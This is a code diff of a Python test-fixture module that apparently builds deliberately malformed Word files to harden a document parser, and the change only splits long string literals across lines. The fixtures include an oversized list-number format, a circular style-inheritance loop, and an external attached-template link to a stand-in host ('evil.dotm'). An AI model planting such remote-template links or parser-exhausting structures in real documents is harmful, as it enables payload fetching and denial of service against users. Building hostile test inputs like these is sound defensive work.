@@ -12,7 +12,8 @@ from hostile_tools import Hostile, flips, truncations
 GOOD_LINE = "The Goodwick Board is accountable to Goodwick Council."
 _W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 _RELS = (
-    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" '
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
     'Target="word/document.xml"/></Relationships>'
 )
@@ -20,7 +21,8 @@ _RELS = (
 
 def body(inside: str, before: str = "") -> bytes:
     """The XML of a document with this inside."""
-    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {_W}><w:body>{inside}</w:body></w:document>'.encode()
+    document = f"<w:document {_W}><w:body>{inside}</w:body></w:document>"
+    return f'<?xml version="1.0" encoding="UTF-8"?>{before}{document}'.encode()
 
 
 def paragraph(text: str = GOOD_LINE, properties: str = "") -> str:
@@ -229,7 +231,11 @@ def hostile_docxs() -> Iterator[Hostile]:
         docx(paragraph(properties=listed)),
         "any",
     )
-    start = f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="99999"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="{"%1" * 900}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
+    start = (
+        f'<w:numbering {_W}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="99999"/>'
+        f'<w:numFmt w:val="lowerLetter"/><w:lvlText w:val="{"%1" * 900}"/></w:lvl></w:abstractNum>'
+        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
+    )
     item = paragraph(properties='<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>')
     yield Hostile(
         "long-number.docx",
@@ -238,7 +244,10 @@ def hostile_docxs() -> Iterator[Hostile]:
         docx(item * 50, {"word/numbering.xml": start.encode()}),
         "any",
     )
-    loop = f'<w:styles {_W}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
+    loop = (
+        f'<w:styles {_W}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
+        '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
+    )
     styled = paragraph(properties='<w:pPr><w:pStyle w:val="A"/></w:pPr>')
     yield Hostile(
         "style-loop.docx",
@@ -247,7 +256,11 @@ def hostile_docxs() -> Iterator[Hostile]:
         docx(styled, {"word/styles.xml": loop.encode()}),
         "read",
     )
-    remote = b'<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>'
+    remote = (
+        b'<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/>'
+        b"</Relationships>"
+    )
     yield Hostile(
         "remote-template.docx",
         "Word links",
